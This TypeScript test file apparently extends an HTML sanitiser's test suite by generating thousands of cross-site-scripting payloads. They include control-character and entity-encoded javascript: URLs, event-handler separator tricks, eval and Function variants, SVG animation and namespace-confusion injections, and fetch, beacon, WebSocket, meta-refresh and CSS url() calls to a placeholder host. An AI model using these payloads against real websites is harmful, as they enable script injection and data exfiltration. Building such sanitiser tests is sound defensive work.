import { hostileHtml, strangeHost, type Hostile } from '#src/testing/hostile-html.ts';

// Shapes beyond those that every test run tries; all made here from what is publicly known to have worked somewhere once.

const run = 'parent.ran=top.ran=ran=1';
const stranger = `https://${strangeHost}`;

const product = <A, B>(first: readonly A[], second: readonly B[]): (readonly [A, B])[] =>
  first.flatMap((a) => second.map((b) => [a, b] as const));

const hex = (text: string, digits = 0): string =>
  Array.from(text, (letter) => `&#x${letter.codePointAt(0)?.toString(16).padStart(digits, '0')};`).join('');
const decimal = (text: string, end = ';'): string => Array.from(text, (letter) => `&#${letter.codePointAt(0)}${end}`).join('');

/** Every blank and control character, at each place of a scheme where some browser once overlooked it. */
function* schemes(): Generator<string> {
  const blanks = [
    ...Array.from({ length: 33 }, (_, code) => code),
    0x7f,
    0x85,
    0xa0,
    0xad,
    0x1680,
    0x180e,
    0x2000,
    0x200b,
    0x200d,
    0x2028,
    0x2029,
    0x3000,
    0xfeff,
  ];
  for (const [blank, scheme] of product(blanks, ['javascript', 'vbscript', 'data'])) {
    const letter = String.fromCodePoint(blank);
    const rest = scheme === 'data' ? `text/html,<script>${run}</script>` : run;
    yield `${letter}${scheme}:${rest}`;
    yield `${scheme.slice(0, 4)}${letter}${scheme.slice(4)}:${rest}`;
    yield `${scheme}${letter}:${rest}`;
    yield `${scheme}:${letter}${rest}`;
  }
}

/** Addresses that are no place to go to. */
export const hostileAddresses: readonly string[] = [...new Set(schemes())].map((address) => address.toWellFormed());

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

function* encodedAddresses(): Generator<string> {
  for (const address of hostileAddresses) {
    yield `<a href="${quoted(address)}">x</a>`;
    yield `<svg><a xlink:href="${quoted(address)}"><text y=9>x</text></a></svg>`;
  }
  const plain = `javascript:${run}`;
  for (const encoded of [hex(plain), hex(plain, 7), decimal(plain), decimal(plain, ''), decimal(plain).replaceAll('&#', '&#0000')]) {
    for (const [tag, attribute] of [
      ['a', 'href'],
      ['iframe', 'src'],
      ['form', 'action'],
      ['button', 'formaction'],
      ['object', 'data'],
      ['embed', 'src'],
    ])
      yield `<${tag} ${attribute}="${encoded}">x</${tag}>`;
  }
}

/** What stands between the parts of a tag, and around a value. */
function* separators(): Generator<string> {
  const between = [
    ' ',
    '/',
    '\t',
    '\n',
    '\f',
    '\r',
    '\r\n',
    ' / ',
    '//',
    '\0',
    '\v',
    ' x ',
    ' x=',
    ' x="" ',
    " x='>' ",
    ' x=">" ',
    '/x/',
    ' "',
    " '",
    ' `',
    ' <',
  ];
  const values = ['$', '"$"', "'$'", '`$`', ' = $', '="$', "='$"];
  const tags = ['img src=x', 'svg', 'body', 'video src=x', 'input autofocus', 'details open', 'xss tabindex=1'];
  const events: Readonly<Record<string, string>> = {
    img: 'onerror',
    video: 'onerror',
    input: 'onfocus',
    details: 'ontoggle',
    xss: 'onfocus',
  };
  for (const [tag, [gap, value]] of product(tags, product(between, values))) {
    const [name = ''] = tag.split(' ');
    const written = value.startsWith('=') || value.startsWith(' =') ? value : `=${value}`;
    yield `<${tag.replaceAll(' ', gap)}${gap}${events[name] ?? 'onload'}${written.replace('$', run)}>x`;
  }
}

/** Scripts that name their functions in other ways. */
function* spellings(): Generator<string> {
  const codes = [
    run,
    'eval("ran=1")',
    'window["ra"+"n"]=1',
    'setTimeout("ran=1")',
    'Function("ran=1")()',
    '[].constructor.constructor("ran=1")()',
    '(0,eval)(atob("cmFuPTE="))',
    'import("data:text/javascript,ran=1")',
    'location="javascript:ran=1"',
    'open("javascript:opener.ran=1")',
    `fetch("${stranger}/x")`,
    `navigator.sendBeacon("${stranger}/x")`,
    `new Image().src="${stranger}/x"`,
    `new WebSocket("wss://${strangeHost}/x")`,
    `new EventSource("${stranger}/x")`,
    'document.body.innerHTML="<img src=x onerror=ran=1>"',
    'document.write("<script>ran=1</script>")',
    'alert(1)',
    'print()',
    'new Worker("data:,postMessage(1)")',
    'navigator.serviceWorker.register("data:text/javascript,")',
  ];
  for (const code of codes) {
    yield `<script>${code}</script>`;
    for (const way of [quoted(code), hex(code), decimal(code)]) {
      yield `<img src=x onerror="${way}">`;
      yield `<svg onload="${way}">`;
      yield `<a href="javascript:${way}">x</a>`;
      yield `<iframe srcdoc="${quoted(`<img src=x onerror="${way}">`)}">`;
      yield `<svg><script>${way}</script></svg>`;
    }
  }
}

/** Elements of SVG that change others, or bring in others. */
function* animations(): Generator<string> {
  const values = [`javascript:${run}`, `data:text/html,<script>${run}</script>`, `${stranger}/x`];
  const targets = ['href', 'xlink:href', 'onclick', 'style', 'src', 'action', 'formaction', 'to', 'values', 'begin'];
  for (const [[changer, target], value] of product(
    product(['animate', 'set', 'animateTransform', 'animateMotion', 'discard'], targets),
    values,
  )) {
    yield `<svg><a><${changer} attributeName="${target}" from="x" to="${quoted(value)}" begin="0s" dur="1s" fill="freeze"/><text y="9">x</text></a></svg>`;
    yield `<svg><a id=x href=#><${changer} href=#x attributeName=${target} values="${quoted(value)};x" keyTimes="0;1" dur=1s></${changer}></a></svg>`;
  }
  for (const handler of ['onbegin', 'onend', 'onrepeat', 'onload', 'onunload', 'onactivate', 'onfocusin'])
    for (const tag of ['animate', 'set', 'animateTransform', 'svg', 'g', 'use', 'image href=x', 'foreignObject', 'text', 'style'])
      yield `<svg><${tag} ${handler}=${run} attributeName=x dur=1s></svg>`;
}

/** Trees whose serialised form is read as another tree. */
function* namespaces(): Generator<string> {
  const img = `<img src=x onerror=${run}>`;
  const roots = [
    'svg',
    'math',
    'svg><foreignObject',
    'svg><desc',
    'svg><title',
    'math><mtext',
    'math><mi',
    'math><annotation-xml encoding=text/html',
    'math><annotation-xml encoding=application/xhtml+xml',
  ];
  const middles = [
    '',
    'p',
    'table',
    'table><tr',
    'form',
    'select',
    'template',
    'mglyph',
    'malignmark',
    'b',
    'a',
    'li',
    'dd',
    'option',
    'font color=x',
    'svg',
    'math',
  ];
  const raws = ['style', 'title', 'textarea', 'noscript', 'xmp'];
  for (const [[root, middle], raw] of product(product(roots, middles), raws)) {
    const inner = middle === '' ? '' : `<${middle}>`;
    yield `<${root}>${inner}<${raw}><a title="</${raw}>${img}">`;
    yield `<${root}>${inner}<${raw}><![CDATA[</${raw}>${img}]]>`;
  }
}

/** Prefetching, refreshing, redirecting: what calls out without a script. */
function* calls(): Generator<string> {
  const rels = [
    'prefetch',
    'preload',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
    'import',
    'next',
    'alternate stylesheet',
    'search',
    'pingback',
  ];
  for (const rel of rels)
    for (const as of ['', ' as=script', ' as=image', ' as=style', ' as=fetch', ' as=document'])
      yield `<link rel="${rel}"${as} href="${stranger}/x" crossorigin>`;
  for (const wait of ['0', '0.1', '00000', '-1', ' 0 ', '0,', '0;', "0;url='", '0;\turl=', '0; URL ='])
    for (const to of [`${stranger}/x`, `javascript:${run}`, `data:text/html,<script>${run}</script>`])
      yield `<meta http-equiv="refresh" content="${wait}${wait.includes('=') || wait.endsWith("'") ? '' : ';url='}${quoted(to)}">`;
  for (const policy of ['default-src *', "script-src 'unsafe-inline'", 'upgrade-insecure-requests', `report-uri ${stranger}/x`])
    yield `<meta http-equiv=Content-Security-Policy content="${policy}">`;
  const properties = [
    'background',
    'background-image',
    'border-image',
    'list-style',
    'cursor',
    'content',
    'filter',
    'mask',
    'clip-path',
    'shape-outside',
    '--x',
    'src',
  ];
  const functions = [
    `url(${stranger}/x)`,
    `url("//${strangeHost}/x")`,
    `image-set("${stranger}/x" 1x)`,
    `u\\72 l(${stranger}/x)`,
    `url(${stranger}/x#y)`,
    `expression(${run})`,
    `url(javascript:${run})`,
    `cross-fade(url(${stranger}/x), red)`,
  ];
  for (const [property, value] of product(properties, functions)) {
    yield `<p style="${property}:${quoted(value)}">x</p>`;
    yield `<style>*{${property}:${value}}</style>`;
  }
  for (const at of ['@import', '@namespace', '@font-face{src:', '@document', '@charset']) yield `<style>${at} url(${stranger}/x);</style>`;
  for (const [tag, attribute] of product(
    [
      'img',
      'source',
      'input type=image',
      'video',
      'audio',
      'track',
      'embed',
      'iframe',
      'frame',
      'object',
      'image',
      'use',
      'feImage',
      'script',
      'link rel=stylesheet',
      'body',
      'table',
      'td',
      'a',
      'area',
      'form',
      'button',
      'q',
      'blockquote',
      'ins',
      'del',
      'html',
      'menuitem',
      'portal',
    ],
    [
      'src',
      'href',
      'xlink:href',
      'data',
      'srcset',
      'imagesrcset',
      'poster',
      'background',
      'action',
      'formaction',
      'ping',
      'cite',
      'longdesc',
      'lowsrc',
      'dynsrc',
      'manifest',
      'profile',
      'usemap',
      'icon',
      'classid',
      'codebase',
      'archive',
      'attributionsrc',
    ],
  ))
    yield `<${tag} ${attribute}="${stranger}/x">`;
}

const known = new Set(hostileHtml.map(({ html }) => html));
const family = (name: string, all: Iterable<string>): Hostile[] =>
  [...new Set(all)].filter((html) => !known.has(html)).map((html) => ({ family: name, html }));

/** Everything: what every test run tries, and what is made here. */
export const allHostileHtml: readonly Hostile[] = [
  ...hostileHtml,
  ...family('address, blanks', encodedAddresses()),
  ...family('separator', separators()),
  ...family('spelling', spellings()),
  ...family('animation', animations()),
  ...family('namespace', namespaces()),
  ...family('call', calls()),
].map(({ family, html }) => ({ family, html: html.toWellFormed() }));
